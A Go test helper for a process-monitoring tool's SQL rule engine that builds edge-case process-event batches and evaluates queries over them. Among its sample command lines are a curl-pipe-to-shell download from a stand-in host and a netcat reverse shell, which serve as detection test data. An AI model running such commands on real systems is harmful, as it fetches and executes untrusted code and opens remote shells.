//go:build unix

package conformance

import (
	"context"
	"errors"
	"math"
	"time"

	"daemoneye/bus/event"
	"daemoneye/rules/sql"
)

// dataSet is the rows that the statements are about: NULLs, empty strings,
// extremes, characters of several bytes, in batches of different sizes.
func dataSet() []*event.Batch {
	b := event.NewBuilder(event.Lookup("process_events"))
	base := time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)
	names := []string{"bash", "sh", "curl", "", "python3", "sshd", "naïve", "日本", "a%b", `back\slash`, "Bash", "under_score"}
	commands := []string{
		"bash -c 'curl http://evil/x | sh'", "", "/usr/bin/python3 -m http.server 8080", "nc -e /bin/sh 10.0.0.1 4444",
		"echo héllo wörld", "日本語 テスト", "a\nb\tc", "100% sure", `C:\temp`, "  padded  ", `say "hi", ok`, "x",
	}
	var batches []*event.Batch
	for i := range 40 {
		b.Column("time").Time(base.Add(time.Duration(i*i) * 7 * time.Minute).Add(time.Duration(i) * 123457 * time.Microsecond))
		b.Column("event").Text([]string{"seen", "exec", "changed", "exit"}[i%4])
		b.Column("source").Text("procfs")
		b.Column("entity_id").Text(string(rune('a'+i%26)) + "-entity")
		b.Column("pid").Int([]int64{int64(i), 1, 2147483647, -2147483648, 4242}[i%5])
		if i%3 != 0 {
			b.Column("ppid").Int(int64(i % 7))
		}
		if i%6 != 5 {
			b.Column("name").Text(names[i%len(names)])
		}
		if i%7 != 6 {
			b.Column("command_line").Text(commands[i%len(commands)])
		}
		if i%4 != 3 {
			b.Column("executable_path").Text("/usr/bin/" + names[(i*5)%len(names)])
		}
		if i%5 != 4 {
			b.Column("user_id").Int([]int64{0, 1000, 65534, math.MaxInt64, math.MinInt64}[i%5])
			b.Column("user_name").Text([]string{"root", "alice", "nobody", "Ünï"}[i%4])
		}
		if i%4 != 1 {
			b.Column("cpu_usage").Float([]float64{0, 0.1, 99.95, 1e-7, 1.5e15, 123456789.125, -2.25, 2.5, 3.5}[i%9])
		}
		if i%6 != 2 {
			b.Column("memory_usage").Int(int64(i) * 1048576)
		}
		if i%2 == 0 {
			b.Column("start_time").Time(base.Add(-time.Duration(i) * 36 * time.Hour))
		}
		if i%8 != 7 {
			b.Column("ancestors").Texts([][]string{{}, {"/sbin/init"}, {"/usr/sbin/sshd", "/bin/bash"}, {"a,b", `q"x`, ""}, {"NULL", "日本"}}[i%5])
		}
		if i%3 == 1 {
			b.Column("namespaces").JSON([]byte([]string{`{"mnt": 4026531841, "pid": 1}`, `{"b":[1,2,{"c":null}],"aa":"x","a":1.50}`, `{}`, `{"s":"q\"\n\u00e9","t":true}`}[i%4]))
		}
		if i%4 == 2 {
			b.Column("environment_vars").JSON([]byte([]string{`{"PATH":"/bin:/usr/bin","HOME":"/root"}`, `["x","y",3]`, `"str"`}[i%3]))
		}
		b.Column("kernel_thread").Bool(i%11 == 0)
		if i%9 != 8 {
			b.Column("file_exists").Bool(i%4 != 0)
		}
		b.Column("accessible").Bool(i%2 == 0)
		b.Column("collection_time").Time(base.Add(time.Duration(i) * time.Second))
		b.EndRow()
		if i == 0 || i == 16 {
			batches = append(batches, b.Batch())
		}
	}
	return append(batches, b.Batch())
}

// memory is a Source of batches.
type memory []*event.Batch

func (m memory) Scan(_ context.Context, r sql.ScanRequest, yield func(*event.Batch) error) error {
	for _, b := range m {
		if b.Table != r.Table {
			continue
		}
		if err := yield(b); err != nil {
			return err
		}
	}
	return nil
}

// parted is a memory whose batches are read in parts, by several goroutines,
// and whose columns are fetched when they are needed.
type parted struct{ memory }

func (m parted) Parts(_ context.Context, r sql.ScanRequest) (sql.Parts, error) {
	var list parts
	for _, b := range m.memory {
		if b.Table == r.Table {
			list = append(list, b)
		}
	}
	return list, nil
}

type parts []*event.Batch

func (p parts) Len() int { return len(p) }
func (p parts) Close()   {}

func (p parts) Read(_ context.Context, i int, yield func(*event.Batch) error) error {
	b := p[i]
	lazy := &event.Batch{Table: b.Table, Rows: b.Rows, Columns: make([]*event.Vector, len(b.Columns))}
	open := true
	lazy.Fetch = func(column int) (*event.Vector, error) {
		if !open {
			return nil, errors.New("a column was fetched after the batch was given back")
		}
		return b.Columns[column], nil
	}
	defer func() { open = false }()
	return yield(lazy)
}

// timeout is the code of an answer that did not come in time.
const timeout = "timeout"

// evaluate gives the engine's answer.
func evaluate(batches []*event.Batch, text string) answer {
	return evaluateWithin(memory(batches), text, time.Minute)
}

// evaluateParted gives the engine's answer when it reads in parts.
func evaluateParted(batches []*event.Batch, text string) answer {
	return evaluateWithin(parted{memory(batches)}, text, time.Minute)
}

func evaluateWithin(source sql.Source, text string, limit time.Duration) answer {
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	failure := func(err error) answer {
		if errors.Is(err, context.DeadlineExceeded) {
			return answer{err: timeout, message: err.Error()}
		}
		var e *sql.Error
		if errors.As(err, &e) {
			return answer{err: e.Code, message: e.Error() + "\n" + e.Caret()}
		}
		return answer{err: "XXXXX", message: err.Error()}
	}
	q, err := sql.Compile(text, sql.Config{})
	if err != nil {
		a := failure(err)
		a.compiling = true
		return a
	}
	var head []string
	for _, c := range q.Columns() {
		head = append(head, c.Name+":"+c.Type.String())
	}
	a := answer{lines: []string{csvLine(head)}}
	err = q.Run(ctx, source, sql.Options{Workers: 3}, func(r *sql.Rows) error {
		for i := range r.Len() {
			var cells []string
			for j := range r.Columns() {
				cell, null := r.AppendText(nil, i, j)
				if null {
					cell = []byte(`\N`)
				}
				cells = append(cells, string(cell))
			}
			a.lines, a.rows = append(a.lines, csvLine(cells)), append(a.rows, cells)
		}
		return nil
	})
	if err != nil {
		return failure(err)
	}
	return a
}
